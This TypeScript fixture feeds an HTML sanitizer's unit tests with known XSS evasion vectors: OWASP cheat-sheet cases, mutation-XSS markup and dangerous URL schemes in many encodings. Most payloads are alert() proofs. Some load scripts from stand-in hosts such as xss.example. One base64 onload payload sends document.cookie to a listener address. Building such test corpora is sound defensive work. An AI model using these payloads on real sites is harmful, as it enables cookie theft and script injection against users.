/**
 * A corpus of known XSS evasion vectors for the HTML sanitizer (tests/unit/sanitize-html-xss.test.ts):
 * the cases of the OWASP XSS filter-evasion cheat sheet, mutated markup (mXSS, unclosed tags,
 * namespace confusion, comments, CDATA, raw-text elements) and dangerous URL schemes in every
 * URL-bearing attribute and every encoding a browser decodes.
 */

export interface Vector {
  label: string;
  markup: string;
}

/** The cheat sheet's cases that are markup (its JavaScript-string and WAF cases are not ours). */
export const OWASP_CHEAT_SHEET: Vector[] = [
  { label: 'basic script', markup: '<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>' },
  { label: 'polyglot locator', markup: 'javascript:/*--></title></style></textarea></script></xmp><svg/onload=\'+/"`/+/onmouseover=1/+/[*/[]/+alert(42);//\'>' },
  { label: 'malformed a, quoted handler', markup: '<a onmouseover="alert(document.cookie)">xxs link</a>' },
  { label: 'malformed a, unquoted handler', markup: '<a onmouseover=alert(document.cookie)>xxs link</a>' },
  { label: 'malformed img', markup: '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>' },
  { label: 'fromCharCode', markup: '<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>' },
  { label: 'default src #', markup: '<IMG SRC=# onmouseover="alert(\'xxs\')">' },
  { label: 'empty src', markup: '<IMG SRC= onmouseover="alert(\'xxs\')">' },
  { label: 'no src', markup: '<IMG onmouseover="alert(\'xxs\')">' },
  { label: 'onerror alert', markup: '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>' },
  { label: 'onerror, encoded handler', markup: '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">' },
  { label: 'decimal references', markup: '<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>' },
  { label: 'decimal references, no semicolons, padded', markup: '<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041>' },
  { label: 'hex references, no semicolons', markup: '<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>' },
  { label: 'embedded tab', markup: '<IMG SRC="jav\tascript:alert(\'XSS\');">' },
  { label: 'embedded encoded tab', markup: '<IMG SRC="jav&#x09;ascript:alert(\'XSS\');">' },
  { label: 'embedded newline', markup: '<IMG SRC="jav&#x0A;ascript:alert(\'XSS\');">' },
  { label: 'embedded carriage return', markup: '<IMG SRC="jav&#x0D;ascript:alert(\'XSS\');">' },
  { label: 'null inside the scheme', markup: '<IMG SRC=java\0script:alert("XSS")>' },
  { label: 'spaces and meta characters first', markup: '<IMG SRC=" &#14;  javascript:alert(\'XSS\');">' },
  { label: 'non-alpha-non-digit after the tag name', markup: '<SCRIPT/XSS SRC="http://xss.example/xss.js"></SCRIPT>' },
  { label: 'non-alpha-non-digit before the equals sign', markup: '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>' },
  { label: 'slash instead of space', markup: '<SCRIPT/SRC="http://xss.example/xss.js"></SCRIPT>' },
  { label: 'extraneous open brackets', markup: '<<SCRIPT>alert("XSS");//\\<</SCRIPT>' },
  { label: 'no closing script tag', markup: '<SCRIPT SRC=http://xss.example/xss.js?< B >' },
  { label: 'protocol resolution in script', markup: '<SCRIPT SRC=//xss.example/.j>' },
  { label: 'half open img', markup: '<IMG SRC="`<javascript:alert>`(\'XSS\')"' },
  { label: 'double open angle brackets', markup: '<iframe src=http://xss.example/scriptlet.html <' },
  { label: 'ending a script block', markup: '</script><script>alert(\'XSS\');</script>' },
  { label: 'end title tag', markup: '</TITLE><SCRIPT>alert("XSS");</SCRIPT>' },
  { label: 'input image', markup: '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">' },
  { label: 'body background', markup: '<BODY BACKGROUND="javascript:alert(\'XSS\')">' },
  { label: 'img dynsrc', markup: '<IMG DYNSRC="javascript:alert(\'XSS\')">' },
  { label: 'img lowsrc', markup: '<IMG LOWSRC="javascript:alert(\'XSS\')">' },
  { label: 'list-style-image', markup: '<STYLE>li {list-style-image: url("javascript:alert(\'XSS\')");}</STYLE><UL><LI>XSS</br>' },
  { label: 'vbscript in an image', markup: '<IMG SRC=\'vbscript:msgbox("XSS")\'>' },
  { label: 'livescript', markup: '<IMG SRC="livescript:[code]">' },
  { label: 'svg onload', markup: '<svg/onload=alert(\'XSS\')>' },
  { label: 'body onload', markup: '<BODY ONLOAD=alert(\'XSS\')>' },
  ...['onabort', 'onactivate', 'onbegin', 'onblur', 'onclick', 'oncopy', 'ondblclick', 'ondrag', 'onerror', 'onfocus', 'onfocusin', 'oninput', 'onkeydown', 'onload', 'onmouseenter', 'onmouseover', 'onpaste', 'onpointerdown', 'onscroll', 'onstart', 'ontoggle', 'onwheel'].map((handler) => ({
    label: `event handler ${handler}`,
    markup: `<p ${handler}="alert(1)">x</p><a href="/x" ${handler.toUpperCase()}=alert(1)>y</a><img src="/i.png" ${handler}=alert(1)><details open ${handler}=alert(1)><summary>z</summary></details>`,
  })),
  { label: 'bgsound', markup: '<BGSOUND SRC="javascript:alert(\'XSS\');">' },
  { label: '& javascript include', markup: '<BR SIZE="&{alert(\'XSS\')}">' },
  { label: 'link stylesheet', markup: '<LINK REL="stylesheet" HREF="javascript:alert(\'XSS\');">' },
  { label: 'remote style sheet', markup: '<LINK REL="stylesheet" HREF="http://xss.example/xss.css">' },
  { label: 'style @import', markup: '<STYLE>@import\'http://xss.example/xss.css\';</STYLE>' },
  { label: 'meta link header', markup: '<META HTTP-EQUIV="Link" Content="<http://xss.example/xss.css>; REL=stylesheet">' },
  { label: 'style -moz-binding', markup: '<STYLE>BODY{-moz-binding:url("http://xss.example/xssmoz.xml#xss")}</STYLE>' },
  { label: 'style broken-up import', markup: '<STYLE>@im\\port\'\\ja\\vasc\\ript:alert("XSS")\';</STYLE>' },
  { label: 'style attribute expression', markup: '<IMG STYLE="xss:expr/*XSS*/ession(alert(\'XSS\'))">' },
  { label: 'img style with expressions', markup: 'exp/*<A STYLE=\'no\\xss:noxss("*//*");\nxss:ex/*XSS*//*/*/pression(alert("XSS"))\'>' },
  { label: 'style type javascript', markup: '<STYLE TYPE="text/javascript">alert(\'XSS\');</STYLE>' },
  { label: 'style background-image', markup: '<STYLE>.XSS{background-image:url("javascript:alert(\'XSS\')");}</STYLE><A CLASS=XSS></A>' },
  { label: 'style background', markup: '<STYLE type="text/css">BODY{background:url("javascript:alert(\'XSS\')")}</STYLE>' },
  { label: 'anonymous element with style', markup: '<XSS STYLE="xss:expression(alert(\'XSS\'))">' },
  { label: 'local htc file', markup: '<XSS STYLE="behavior: url(xss.htc);">' },
  { label: 'US-ASCII encoding', markup: '¼script¾alert(¢XSS¢)¼/script¾' },
  { label: 'meta refresh', markup: '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">' },
  { label: 'meta refresh with data', markup: '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">' },
  { label: 'meta refresh, extra url parameter', markup: '<META HTTP-EQUIV="refresh" CONTENT="0; URL=http://;URL=javascript:alert(\'XSS\');">' },
  { label: 'iframe', markup: '<IFRAME SRC="javascript:alert(\'XSS\');"></IFRAME>' },
  { label: 'iframe event', markup: '<IFRAME SRC=# onmouseover="alert(document.cookie)"></IFRAME>' },
  { label: 'frame', markup: '<FRAMESET><FRAME SRC="javascript:alert(\'XSS\');"></FRAMESET>' },
  { label: 'table background', markup: '<TABLE BACKGROUND="javascript:alert(\'XSS\')">' },
  { label: 'td background', markup: '<TABLE><TD BACKGROUND="javascript:alert(\'XSS\')">' },
  { label: 'div background-image', markup: '<DIV STYLE="background-image: url(javascript:alert(\'XSS\'))">' },
  { label: 'div background-image, unicode escapes', markup: '<DIV STYLE="background-image:\\0075\\0072\\006C\\0028\'\\006a\\0061\\0076\\0061\\0073\\0063\\0072\\0069\\0070\\0074\\003a\\0061\\006c\\0065\\0072\\0074\\0028.1027\\0058.1053\\0053\\0027\\0029\'\\0029">' },
  { label: 'div expression', markup: '<DIV STYLE="width: expression(alert(\'XSS\'));">' },
  { label: 'downlevel-hidden block', markup: '<!--[if gte IE 4]>\n<SCRIPT>alert(\'XSS\');</SCRIPT>\n<![endif]-->' },
  { label: 'base tag', markup: '<BASE HREF="javascript:alert(\'XSS\');//">' },
  { label: 'object', markup: '<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.example/scriptlet.html"></OBJECT>' },
  { label: 'embed flash', markup: '<EMBED SRC="http://xss.example/xss.swf" AllowScriptAccess="always"></EMBED>' },
  { label: 'embed svg', markup: '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dHA6Ly93d3cudzMub3JnLzIwMDAvc3ZnIj48c2NyaXB0PmFsZXJ0KDEpPC9zY3JpcHQ+PC9zdmc+" type="image/svg+xml" AllowScriptAccess="always"></EMBED>' },
  { label: 'xml data island with comment', markup: '<XML ID="xss"><I><B><IMG SRC="javas<!-- -->cript:alert(\'XSS\')"></B></I></XML><SPAN DATASRC="#xss" DATAFLD="B" DATAFORMATAS="HTML"></SPAN>' },
  { label: 'locally hosted xml', markup: '<XML SRC="xsstest.xml" ID=I></XML><SPAN DATASRC=#I DATAFLD=C DATAFORMATAS=HTML></SPAN>' },
  { label: 'html+time', markup: '<HTML><BODY><?xml:namespace prefix="t" ns="urn:schemas-microsoft-com:time"><?import namespace="t" implementation="#default#time2"><t:set attributeName="innerHTML" to="XSS<SCRIPT DEFER>alert("XSS")</SCRIPT>"></BODY></HTML>' },
  { label: 'script renamed to an image', markup: '<SCRIPT SRC="http://xss.example/xss.jpg"></SCRIPT>' },
  { label: 'server side include', markup: '<!--#exec cmd="/bin/echo \'<SCR\'"--><!--#exec cmd="/bin/echo \'IPT SRC=http://xss.example/xss.js></SCRIPT>\'"-->' },
  { label: 'php', markup: '<? echo(\'<SCR)\';\necho(\'IPT>alert("XSS")</SCRIPT>\'); ?>' },
  { label: 'meta set-cookie', markup: '<META HTTP-EQUIV="Set-Cookie" Content="USERID=<SCRIPT>alert(\'XSS\')</SCRIPT>">' },
  { label: 'utf-7', markup: '<HEAD><META HTTP-EQUIV="CONTENT-TYPE" CONTENT="text/html; charset=UTF-7"> </HEAD>+ADw-SCRIPT+AD4-alert(\'XSS\');+ADw-/SCRIPT+AD4-' },
  { label: 'quote encapsulation 1', markup: '<SCRIPT a=">" SRC="httx://xss.example/xss.js"></SCRIPT>' },
  { label: 'quote encapsulation 2', markup: '<SCRIPT =">" SRC="httx://xss.example/xss.js"></SCRIPT>' },
  { label: 'quote encapsulation 3', markup: '<SCRIPT a=">" \'\' SRC="httx://xss.example/xss.js"></SCRIPT>' },
  { label: 'quote encapsulation 4', markup: '<SCRIPT "a=\'>\'" SRC="httx://xss.example/xss.js"></SCRIPT>' },
  { label: 'quote encapsulation, grave accents', markup: '<SCRIPT a=`>` SRC="httx://xss.example/xss.js"></SCRIPT>' },
  { label: 'quote encapsulation 5', markup: '<SCRIPT a=">\'>" SRC="httx://xss.example/xss.js"></SCRIPT>' },
  { label: 'document.write split', markup: '<SCRIPT>document.write("<SCRI");</SCRIPT>PT SRC="httx://xss.example/xss.js"></SCRIPT>' },
  { label: 'protocol resolution bypass', markup: '<A HREF="//www.google.com/">XSS</A>' },
  { label: 'protocol resolution with backslashes', markup: '<A HREF="\\\\www.google.com/">XSS</A>' },
  { label: 'javascript link location', markup: '<A HREF="javascript:document.location=\'http://www.google.com/\'">XSS</A>' },
  { label: 'base64 in onload', markup: '<img onload="eval(atob(\'ZG9jdW1lbnQubG9jYXRpb249Imh0dHA6Ly9saXN0ZXJuSVAvIitkb2N1bWVudC5jb29raWU=\'))">' },
  { label: 'character escape sequences of <', markup: ['&lt', '&lt;', '&LT', '&LT;', '&#60', '&#060', '&#0000060;', '&#x3c', '&#x00003c;', '&#X3C;', '%3C', '\\x3c', '\\u003c'].map((lt) => `${lt}script>alert(1)${lt}/script>`).join('') },
];

/** Markup that parsers read differently, or that changes when re-read. */
export const MUTATED_MARKUP: Vector[] = [
  { label: 'noscript closed inside an attribute', markup: '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>' },
  { label: 'noscript closed by an ancestor', markup: '<div><noscript></div><img src=x onerror=alert(1)></noscript>' },
  { label: 'svg style comment', markup: '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">' },
  { label: 'math mglyph style', markup: '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror=alert(1)&gt;">' },
  { label: 'form in math', markup: '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>' },
  { label: 'math textarea', markup: '<math><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=alert(1) src=1>">' },
  { label: 'svg foreignObject', markup: '<svg><foreignObject><p><img src=x onerror=alert(1)></p></foreignObject></svg>' },
  { label: 'svg a xlink:href', markup: '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>' },
  { label: 'svg animate href', markup: '<svg><a><animate attributeName="href" values="javascript:alert(1)"/><text x="20" y="20">XSS</text></a></svg>' },
  { label: 'svg set onload', markup: '<svg><set attributeName="onload" to="alert(1)"/></svg>' },
  { label: 'svg script', markup: '<svg><script>alert(1)</script></svg>' },
  { label: 'svg script with entities', markup: '<svg><script>&#97;lert(1)</script></svg>' },
  { label: 'svg style breaks out', markup: '<svg><style><img src=x onerror=alert(1)></style></svg>' },
  { label: 'svg use data', markup: '<svg><use href="data:image/svg+xml,&lt;svg id=x xmlns=http://www.w3.org/2000/svg&gt;&lt;image href=1 onerror=alert(1) /&gt;&lt;/svg&gt;#x"/></svg>' },
  { label: 'math href', markup: '<math href="javascript:alert(1)">CLICKME</math>' },
  { label: 'math maction', markup: '<math><maction actiontype="statusline#" xlink:href="javascript:alert(1)">CLICK</maction></math>' },
  { label: 'math style', markup: '<math><style><img src=x onerror=alert(1)></style></math>' },
  { label: 'xmp', markup: '<xmp><p title="</xmp><img src=x onerror=alert(1)>">' },
  { label: 'textarea', markup: '<textarea><p title="</textarea><img src=x onerror=alert(1)>">' },
  { label: 'textarea solidus close', markup: '<textarea></textarea/><img src=x onerror=alert(1)>' },
  { label: 'title', markup: '<title><p title="</title><img src=x onerror=alert(1)>">' },
  { label: 'style', markup: '<style><p title="</style><img src=x onerror=alert(1)>">' },
  { label: 'iframe fallback', markup: '<iframe><p title="</iframe><img src=x onerror=alert(1)>">' },
  { label: 'iframe unclosed', markup: '<iframe><img src=x onerror=alert(1)>' },
  { label: 'nested iframes', markup: '<iframe><iframe><iframe></iframe></iframe><img src=x onerror=alert(1)></iframe>' },
  { label: 'noembed', markup: '<noembed><p title="</noembed><img src=x onerror=alert(1)>">' },
  { label: 'noframes', markup: '<noframes><p title="</noframes><img src=x onerror=alert(1)>">' },
  { label: 'plaintext', markup: '<plaintext><img src=x onerror=alert(1)>' },
  { label: 'template', markup: '<template><img src=x onerror=alert(1)></template>' },
  { label: 'select template', markup: '<select><template><style><!--</style><a rel="--></template></select><img src=x onerror=alert(1)>">' },
  { label: 'select option', markup: '<select><option><img src=x onerror=alert(1)></option></select>' },
  { label: 'option with entity-encoded script', markup: '<option>&lt;script&gt;alert(1)&lt;/script&gt;</option>' },
  { label: 'table foster parenting', markup: '<table><img src=x onerror=alert(1)><a href="javascript:alert(1)">x</a></table>' },
  { label: 'table in table cell', markup: '<table><tr><td><table><tr><td><img src=x onerror=alert(1)>' },
  { label: 'unclosed img', markup: '<img src=x onerror=alert(1)' },
  { label: 'unclosed a', markup: '<a href="javascript:alert(1)' },
  { label: 'unclosed attribute with a script', markup: '<p title="<script>alert(1)</script>' },
  { label: 'unclosed script', markup: '<script>alert(1)' },
  { label: 'unclosed handler', markup: '<a href=\'/x\' onmouseover=alert(1)//' },
  { label: 'no space between attributes', markup: '<a href="/x"onmouseover="alert(1)">x</a>' },
  { label: 'quote inside another quote', markup: '<a title=\'"\' onmouseover=alert(1) x=\'>x</a>' },
  { label: 'grave accents', markup: '<a title=`x` onmouseover=alert(1)>x</a>' },
  { label: 'slash before an attribute', markup: '<a/href="javascript:alert(1)">x</a>' },
  { label: 'slash between attributes', markup: '<a href="/x" / onmouseover=alert(1)>x</a>' },
  { label: 'slashes everywhere', markup: '<img/src=x/onerror=alert(1)>' },
  { label: 'null in a tag name', markup: '<scr\0ipt>alert(1)</scr\0ipt>' },
  { label: 'null in a handler name', markup: '<img src=x o\0nerror=alert(1)>' },
  { label: 'mixed case tags', markup: '<ScRiPt>alert(1)</sCrIpT><IMG SRC=x ONERROR=alert(1)><A HREF="JaVaScRiPt:alert(1)">x</A>' },
  { label: 'script split by script', markup: '<scr<script>ipt>alert(1)</script>' },
  { label: 'script split twice', markup: '<<script>script>alert(1)<</script>/script>' },
  { label: 'script split by a comment', markup: '<scri<!-- -->pt>alert(1)</script>' },
  { label: 'comment closed early', markup: '<!--><img src=x onerror=alert(1)>-->' },
  { label: 'comment closed by --->', markup: '<!---><img src=x onerror=alert(1)>-->' },
  { label: 'comment closed by --!>', markup: '<!-- --!><img src=x onerror=alert(1)>-->' },
  { label: 'comment in an attribute', markup: '<!--<img src="--><img src=x onerror=alert(1)//">' },
  { label: 'processing instruction', markup: '<? foo="><script>alert(1)</script>">' },
  { label: 'doctype', markup: '<!DOCTYPE html><img src=x onerror=alert(1)>' },
  { label: 'bogus markup declaration', markup: '<!x><img src=x onerror=alert(1)>' },
  { label: 'end tag with attributes', markup: '</x title="><img src=x onerror=alert(1)>">' },
  { label: 'p end tag with attributes', markup: '<p>x</p title="><script>alert(1)</script>">' },
  { label: 'CDATA in html', markup: '<![CDATA[><img src=x onerror=alert(1)>]]>' },
  { label: 'CDATA in svg', markup: '<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>' },
  { label: 'CDATA leaving math', markup: '<math><![CDATA[</math><img src=x onerror=alert(1)>]]>' },
  { label: 'entity-encoded markup stays text', markup: '<p>&lt;script&gt;alert(1)&lt;/script&gt; &lt;img src=x onerror=alert(1)&gt;</p>' },
  { label: 'double-encoded entities', markup: '<p>&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;</p>' },
  { label: 'attribute breaking out of its quotes', markup: '<a title=\'a"><script>alert(1)</script>\' href="/ok">t</a>' },
  { label: 'details ontoggle', markup: '<details open ontoggle=alert(1)><summary>x</summary></details>' },
  { label: 'video and audio', markup: '<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)></audio><video poster=javascript:alert(1)></video>' },
  { label: 'input autofocus', markup: '<input autofocus onfocus=alert(1)>' },
  { label: 'marquee', markup: '<marquee onstart=alert(1)>x</marquee>' },
  { label: 'form and button actions', markup: '<form action="javascript:alert(1)"><button formaction="javascript:alert(1)">x</button><input type=submit formaction=javascript:alert(1)></form>' },
  { label: 'isindex', markup: '<isindex action=javascript:alert(1) type=image>' },
  { label: 'keygen and object', markup: '<keygen autofocus onfocus=alert(1)><object data="javascript:alert(1)"></object>' },
  { label: 'srcset', markup: '<img src="/ok.png" srcset="javascript:alert(1) 1x, data:text/html,x 2x">' },
  { label: 'ping and area', markup: '<a href="/ok" ping="javascript:alert(1)">x</a><map><area href="javascript:alert(1)"></map>' },
  { label: 'style attribute on an allowed element', markup: '<p style="background:url(javascript:alert(1))">x</p><a href="/ok" style="position:fixed;inset:0">cover</a>' },
  { label: 'class and id clobbering', markup: '<p id="cookie" name="location" class="xss">x</p><img name="getElementById" src="/i.png">' },
  { label: 'rel injected by the body', markup: '<a href="/x" target="_blank" rel="opener">x</a>' },
  { label: 'target with spaces and case', markup: '<a href="/x" TARGET=" _blank ">x</a><a href="/y" target="_top">y</a>' },
  { label: 'link to another origin without a scheme', markup: '<a href="/\\evil.example/">x</a><a href="//evil.example/">y</a><img src="\\\\evil.example/i.png">' },
];

const SCHEMES = [
  { scheme: 'javascript', rest: 'alert(1)' },
  { scheme: 'vbscript', rest: 'msgbox(1)' },
  { scheme: 'data', rest: 'text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==' },
];

interface Encoding {
  name: string;
  /** Writes `scheme:` in this encoding (as attribute source text). */
  encode(scheme: string): string;
  /** Whether a browser still reads the scheme (the raw markup is dangerous). */
  live: boolean;
  /** Raw whitespace inside: only inside quotes. */
  quotedOnly?: boolean;
}

const decimal = (char: string, pad = 0, semicolon = true) => `&#${String(char.codePointAt(0)).padStart(pad, '0')}${semicolon ? ';' : ''}`;
const hex = (char: string, { pad = 0, semicolon = true, upper = false } = {}) =>
  `&#${upper ? 'X' : 'x'}${char.codePointAt(0)!.toString(16).padStart(pad, '0')}${semicolon ? ';' : ''}`;
const everyCharacter = (text: string, encode: (char: string) => string) => [...text].map(encode).join('');
const splitAfterThree = (scheme: string, middle: string) => `${scheme.slice(0, 3)}${middle}${scheme.slice(3)}:`;
const mixedCase = (text: string) => [...text].map((char, index) => (index % 2 ? char.toUpperCase() : char.toLowerCase())).join('');

export const ENCODINGS: Encoding[] = [
  { name: 'plain', encode: (s) => `${s}:`, live: true },
  { name: 'upper case', encode: (s) => `${s.toUpperCase()}:`, live: true },
  { name: 'mixed case', encode: (s) => `${mixedCase(s)}:`, live: true },
  { name: 'leading spaces and controls', encode: (s) => ` \u0001\u000e  ${s}:`, live: true, quotedOnly: true },
  { name: 'leading encoded controls', encode: (s) => `&#14;&#x01;&#32;${s}:`, live: true },
  { name: 'raw tab inside', encode: (s) => splitAfterThree(s, '\t'), live: true, quotedOnly: true },
  { name: 'raw newline inside', encode: (s) => splitAfterThree(s, '\n'), live: true, quotedOnly: true },
  { name: 'raw carriage return inside', encode: (s) => splitAfterThree(s, '\r'), live: true, quotedOnly: true },
  { name: '&#x09; inside', encode: (s) => splitAfterThree(s, '&#x09;'), live: true },
  { name: '&#9 inside, no semicolon', encode: (s) => splitAfterThree(s, '&#9'), live: true },
  { name: '&#10; inside', encode: (s) => splitAfterThree(s, '&#10;'), live: true },
  { name: '&#x0D; inside', encode: (s) => splitAfterThree(s, '&#x0D;'), live: true },
  { name: '&Tab; inside', encode: (s) => splitAfterThree(s, '&Tab;'), live: true },
  { name: '&NewLine; inside', encode: (s) => splitAfterThree(s, '&NewLine;'), live: true },
  { name: 'decimal references', encode: (s) => everyCharacter(`${s}:`, (c) => decimal(c)), live: true },
  { name: 'decimal references, no semicolons', encode: (s) => everyCharacter(`${s}:`, (c) => decimal(c, 0, false)), live: true },
  { name: 'padded decimal references', encode: (s) => everyCharacter(`${s}:`, (c) => decimal(c, 7)), live: true },
  { name: 'padded decimal references, no semicolons', encode: (s) => everyCharacter(`${s}:`, (c) => decimal(c, 7, false)), live: true },
  { name: 'hex references', encode: (s) => everyCharacter(`${s}:`, (c) => hex(c)), live: true },
  // Without a semicolon the colon's reference would run on into the hex digits after it ('&#x3aa').
  { name: 'hex references, no semicolons', encode: (s) => `${everyCharacter(s, (c) => hex(c, { semicolon: false }))}&#x3a;`, live: true },
  { name: 'upper-case X hex references', encode: (s) => everyCharacter(`${s}:`, (c) => hex(c, { upper: true })), live: true },
  { name: 'padded hex references, no semicolons', encode: (s) => `${everyCharacter(s, (c) => hex(c, { pad: 6, semicolon: false }))}:`, live: true },
  { name: 'one letter encoded', encode: (s) => `${s.slice(0, 3)}${hex(s[3]!)}${s.slice(4)}:`, live: true },
  { name: '&colon;', encode: (s) => `${s}&colon;`, live: true },
  { name: '&#58;', encode: (s) => `${s}&#58;`, live: true },
  { name: '&#58 no semicolon', encode: (s) => `${s}&#58`, live: true },
  { name: 'raw null inside', encode: (s) => splitAfterThree(s, '\0'), live: false },
  { name: '&#0; inside', encode: (s) => splitAfterThree(s, '&#0;'), live: false },
  { name: 'percent-encoded letter', encode: (s) => `${s.slice(0, 3)}%${s.charCodeAt(3).toString(16)}${s.slice(4)}:`, live: false },
  { name: 'percent-encoded colon', encode: (s) => `${s}%3A`, live: false },
  { name: 'comment inside', encode: (s) => splitAfterThree(s, '<!-- -->'), live: false, quotedOnly: true },
  { name: 'soft hyphen inside', encode: (s) => splitAfterThree(s, '&shy;'), live: false },
  { name: 'space before the colon', encode: (s) => `${s} :`, live: false, quotedOnly: true },
  { name: 'double-encoded reference', encode: (s) => `&amp;#${s.charCodeAt(0)};${s.slice(1)}:`, live: false },
];

/** Where a URL can go: `{}` is replaced by the URL, already written as attribute text. */
const ALLOWED_POSITIONS = [
  { tag: 'a', template: '<a href="{}">enlace</a>' },
  { tag: 'a', template: '<a title="t" href=\'{}\' target="_blank">enlace</a>' },
  { tag: 'a', template: '<a href={}>enlace</a>', unquoted: true },
  { tag: 'img', template: '<img src="{}" alt="imagen">' },
  { tag: 'img', template: '<img alt=imagen src={}>', unquoted: true },
];
const REFUSED_POSITIONS = [
  '<form action="{}"><input type="submit"></form>',
  '<button formaction="{}">x</button>',
  '<input type="image" src="{}">',
  '<iframe src="{}"></iframe>',
  '<frameset><frame src="{}"></frameset>',
  '<embed src="{}">',
  '<object data="{}"></object>',
  '<base href="{}"><a href="x">x</a>',
  '<link rel="stylesheet" href="{}">',
  '<meta http-equiv="refresh" content="0;url={}">',
  '<table background="{}"><tr><td background="{}">x</td></tr></table>',
  '<video poster="{}"><source src="{}"></video>',
  '<audio src="{}"></audio>',
  '<blockquote cite="{}">x</blockquote>',
  '<a href="/ok" ping="{}">x</a>',
  '<img src="/ok.png" lowsrc="{}" dynsrc="{}" longdesc="{}">',
  '<img src="/ok.png" srcset="{} 1x">',
  '<map><area href="{}"></map>',
  '<svg><a xlink:href="{}"><text>x</text></a></svg>',
  '<svg><a href="{}"><text>x</text></a></svg>',
  '<svg><use href="{}"/><image href="{}"/></svg>',
  '<math href="{}">x</math>',
  '<math><maction actiontype="statusline" xlink:href="{}">x</maction></math>',
  '<script src="{}"></script>',
  '<bgsound src="{}">',
  '<isindex action="{}">',
  '<div data-href="{}" style="background:url({})">x</div>',
];

export interface UrlVector extends Vector {
  /** The URL sits where the allowlist keeps URLs (a href, img src) and a browser would follow it. */
  liveInAllowedPosition: boolean;
}

export function urlVectors(): UrlVector[] {
  const vectors: UrlVector[] = [];
  for (const { scheme, rest } of SCHEMES) {
    for (const encoding of ENCODINGS) {
      const url = `${encoding.encode(scheme)}${rest}`;
      for (const position of ALLOWED_POSITIONS) {
        if (position.unquoted && (encoding.quotedOnly || /[\s"'<>=`]/.test(url))) continue;
        vectors.push({
          label: `${scheme}: ${encoding.name} in ${position.template}`,
          markup: position.template.replaceAll('{}', url),
          liveInAllowedPosition: encoding.live,
        });
      }
      for (const template of REFUSED_POSITIONS) {
        vectors.push({ label: `${scheme}: ${encoding.name} in ${template}`, markup: template.replaceAll('{}', url), liveInAllowedPosition: false });
      }
    }
  }
  return vectors;
}
